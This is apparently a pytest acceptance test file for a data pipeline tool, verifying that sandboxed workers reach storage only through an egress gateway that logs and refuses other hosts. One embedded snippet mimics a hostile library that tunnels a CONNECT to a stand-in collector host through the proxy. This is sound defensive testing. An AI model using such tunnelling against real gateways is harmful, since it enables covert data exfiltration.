"""With an end on the network a worker reaches it through the run's gateway, and nothing else."""

import json
import time
from typing import Any

import psutil
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from tests.acceptance.egress.sink import Sink
from tests.acceptance.faults.space import Space, at_s3, children_of, events, ids, write
from tests.conftest import Place
from tests.kernel import requires_kernel

SOVEREIGNTY = 14
PATIENT_S = 300
# It asks the gateway itself for another host, as a hostile library would that knows its proxy.
_ASKS = """
import os, socket
from urllib.parse import urlsplit
way = urlsplit(os.environ.get("HTTPS_PROXY", ""))
if way.hostname:
    made = socket.create_connection((way.hostname, way.port), 5)
    made.sendall(b"CONNECT collector.test:443 HTTP/1.1\\r\\nHost: collector.test:443\\r\\n\\r\\n")
    if WAITS:
        made.recv(1000)
"""


@pytest.fixture
def lake(space: Space, bucket: Place) -> Place:
    """Room in an S3 server, with its keys in the environment of the workspace."""
    server = bucket.server
    space.environment |= {"LAKE_ID": server.access_key, "LAKE_KEY": server.secret_key}
    return bucket


def _declare(space: Space, place: Place, more: str = "") -> None:
    """Two datasets: from a folder to the store, and from the store to a folder."""
    away = f'destination: {{address: "{place.url}/orders/", platform: lake}}'
    back = f'source: {{address: "{place.url}/raw/", platform: lake}}'
    platform = at_s3("lake", place.server.endpoint, place.server.region)
    if more:
        platform = platform.replace("requireTls: false", f"requireTls: false, {more}")
        platform = platform.replace('"requireTls": false', f'"requireTls": false, {more}')
    space.declare(
        {
            "up": f"source: data/, {away}, format: parquet",
            "down": f"{back}, destination: out/down/, format: parquet",
        },
        (platform,),
    )


def _rows(space: Space) -> list[dict[str, Any]]:
    path = space.root / ".batuta" / "egress" / "audit.jsonl"
    return [json.loads(line) for line in path.read_text().splitlines()]


def _filled(space: Space, place: Place) -> pa.Table:
    rows = ids(0, 1000)
    write(space.root / "data" / "a.parquet", rows)
    content = (space.root / "data" / "a.parquet").read_bytes()
    client = place.server.client()
    client.put_object(Bucket=place.bucket, Key=f"{place.prefix}raw/a.parquet", Body=content)
    return rows


@requires_kernel("user namespaces")
def test_a_store_is_written_and_read_through_the_gateway_which_says_who_and_what(
    space: Space, lake: Place
) -> None:
    rows = _filled(space, lake)
    _declare(space, lake)
    text = space.apply(timeout_s=PATIENT_S)
    assert "workers: enforced, isolated" in " ".join(text.split())
    assert pq.read_table(next((space.root / "out/down").glob("*.parquet"))).equals(rows)
    told = _rows(space)
    host = lake.server.endpoint.rpartition("/")[2].partition(":")[0]
    assert {(row["dataset"], row.get("host")) for row in told} == {("up", host), ("down", host)}
    assert {row["verdict"] for row in told} == {"allow"}
    ended = [row for row in told if row["event"] == "end"]
    assert all(row["rule"] and row["line"] and row["policy"] for row in ended)
    sent = sum(row.get("up", 0) for row in ended if row["dataset"] == "up")
    assert sent > (space.root / "data" / "a.parquet").stat().st_size
    methods = {
        (row["worker"].partition("-")[0], row["method"])
        for row in told
        if row["event"] == "request"
    }
    assert ("data", "GET") in methods
    assert ("upload", "PUT") in methods
    assert {m for w, m in methods if w == "data"} == {"GET"}


@requires_kernel("user namespaces")
def test_a_worker_with_a_way_out_still_gets_nowhere_else(space: Space, lake: Place) -> None:
    _filled(space, lake)
    _declare(space, lake)
    with Sink(str(space.root.parent)) as sink:
        hostile = sink.hostile("/nothing", str(space.root.parent / "stolen"))
        space.apply(before=f"prepare_workers({hostile!r})", timeout_s=PATIENT_S)
        assert sink.taken == set()


@requires_kernel("user namespaces")
@pytest.mark.parametrize("waits", [True, False])
def test_a_refused_host_is_an_event_a_row_a_count_and_exit_code_14(
    space: Space, lake: Place, waits: bool
) -> None:
    """Also where the work itself succeeded, and also where the worker did not wait to hear it."""
    _filled(space, lake)
    _declare(space, lake)
    asks = f"WAITS = {waits}\n{_ASKS}"
    told = space.root / "events.jsonl"
    code, text = space.run(
        "apply",
        "--yes",
        "--events",
        str(told),
        before=f"prepare_workers({asks!r})",
        timeout_s=PATIENT_S,
    )
    assert code == SOVEREIGNTY, text
    assert "refused" in text
    assert [e["host"] for e in events(told) if e["kind"] == "connection-refused"]
    finished = next(e for e in events(told) if e["kind"] == "run-finished")
    assert finished["status"] == "done"
    assert finished["refused"] > 0
    rows = [row for row in _rows(space) if row["verdict"] == "deny"]
    assert {(row["host"], row["code"]) for row in rows} == {("collector.test", "host.not_allowed")}
    engine = space.engine()
    try:
        assert engine.runs()[0].refused == finished["refused"]
    finally:
        engine.close()
    code, text = space.run("plan", before=f"prepare_workers({asks!r})", timeout_s=PATIENT_S)
    assert code == SOVEREIGNTY, text
    code, text = space.run("drift", before=f"prepare_workers({asks!r})", timeout_s=PATIENT_S)
    assert code == SOVEREIGNTY, text


@requires_kernel("user namespaces")
@pytest.mark.parametrize("waits", [True, False])
def test_where_the_policy_says_stop_the_worker_ends_and_nothing_is_committed(
    space: Space, lake: Place, waits: bool
) -> None:
    """Finishing before the verdict does not help it."""
    _filled(space, lake)
    _declare(space, lake, "onViolation: Stop")
    asks = f"WAITS = {waits}\n{_ASKS}"
    code, text = space.run(
        "apply", "--yes", before=f"prepare_workers({asks!r})", timeout_s=PATIENT_S
    )
    assert code == SOVEREIGNTY, text
    assert "EGR306" in text
    assert not list((space.root / "out").rglob("part-*"))
    space.apply(timeout_s=PATIENT_S)


@requires_kernel("user namespaces")
def test_when_batuta_dies_no_connection_of_a_worker_survives(space: Space, lake: Place) -> None:
    _filled(space, lake)
    _declare(space, lake)
    hold = "import time, os\nif os.environ.get('HTTPS_PROXY'): time.sleep(600)"
    process = space.start("plan", before=f"prepare_workers({hold!r})")
    deadline = time.monotonic() + 90
    while not (workers := [c for c in children_of(process) if _is_worker(c)]):
        assert process.poll() is None, process.communicate()[0]
        assert time.monotonic() < deadline
        time.sleep(0.05)
    process.kill()
    process.communicate()
    gone, alive = psutil.wait_procs(workers, timeout=20)
    assert gone
    assert alive == []


def _is_worker(child: psutil.Process) -> bool:
    try:
        return "worker.main" in " ".join(child.cmdline())
    except (psutil.NoSuchProcess, psutil.AccessDenied):
        return False
